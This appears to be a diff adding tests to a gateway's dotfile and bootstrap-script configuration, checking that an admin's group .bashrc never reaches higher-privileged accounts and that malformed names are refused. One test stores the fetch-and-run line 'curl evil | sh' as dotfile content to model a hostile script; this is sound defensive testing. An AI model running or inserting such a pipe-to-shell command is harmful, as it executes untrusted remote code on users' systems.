@@ -67,6 +67,18 @@ async def test_project_and_domain_dotfiles_are_read_by_members_and_changed_by_ad
         got = await user_config.for_session(s, gw.keys["bob"].access, physics.id, "default")
     assert got == [{"path": ".bashrc", "perm": "644", "data": "bob\n"},
                    {"path": ".project", "perm": "644", "data": "p\n"}]   # the project's wins over the domain's
+    # an admin's files never reach an account at or above theirs: they are code its user runs (.bashrc)
+    r = await gw.request("POST", "/group-config/dotfiles", "ladmin", json={"group": "default", "path": ".bashrc",
+                                                                          "data": "curl evil | sh\n"})
+    assert r.status_code == 200
+    async with gw.app.state.db.unit_of_work() as s:
+        default = await accounts.get_group(s, "default")
+        for_root = await user_config.for_session(s, gw.keys["root"].access, default.id, "default")
+        for_admin = await user_config.for_session(s, gw.keys["ladmin"].access, default.id, "default")
+        for_alice = await user_config.for_session(s, gw.keys["alice"].access, default.id, "default")
+    assert ".bashrc" not in [e["path"] for e in for_root]        # a superadmin
+    assert ".bashrc" in [e["path"] for e in for_admin]           # the writer's own sessions
+    assert [e["path"] for e in for_alice] == [".bashrc", ".project"]
 
 
 async def test_the_bootstrap_script_is_kept_per_keypair_and_admins_act_only_below_them(gw):
@@ -81,3 +93,28 @@ async def test_the_bootstrap_script_is_kept_per_keypair_and_admins_act_only_belo
     assert r.status_code == 403
     r = await gw.gql("alice", "query { keypair { bootstrap_script dotfiles } }")
     assert r["data"]["keypair"]["bootstrap_script"] == "echo hi\n"
+
+
+@pytest.mark.parametrize("path,body", [
+    ("/user-config/dotfiles", {"owner_access_key": ["a", "b"], "path": "x", "data": "y"}),
+    ("/group-config/dotfiles", {"group": {"x": 1}, "path": "x", "data": "y"}),
+    ("/domain-config/dotfiles", {"domain": ["a"], "path": "x", "data": "y"}),
+    ("/user-config/bootstrap-script", {"owner_access_key": {"x": 1}, "script": "y"}),
+])
+async def test_names_that_are_not_text_are_refused(gw, path, body):
+    r = await gw.request("POST", path, "ladmin", json=body)
+    assert r.status_code == 400 and r.json()["title"], r.text
+
+
+def test_a_dotfile_that_cannot_be_written_is_left_out(tmp_path):
+    import json
+    import subprocess
+    import sys
+
+    (tmp_path / "data").mkdir()   # a folder's mount point, where a dotfile named "data" cannot go
+    entries = [{"path": "data", "perm": "644", "data": "x"}, {"path": ".vimrc", "perm": "600", "data": "set nu\n"}]
+    done = subprocess.run([sys.executable, "-c", user_config.WRITE_DOTFILES, str(tmp_path)], input=json.dumps(entries),
+                          capture_output=True, text=True)
+    assert done.returncode == 0 and "dotfile data left out" in done.stderr
+    vimrc = tmp_path / ".vimrc"
+    assert vimrc.read_text() == "set nu\n" and oct(vimrc.stat().st_mode & 0o777) == "0o600"
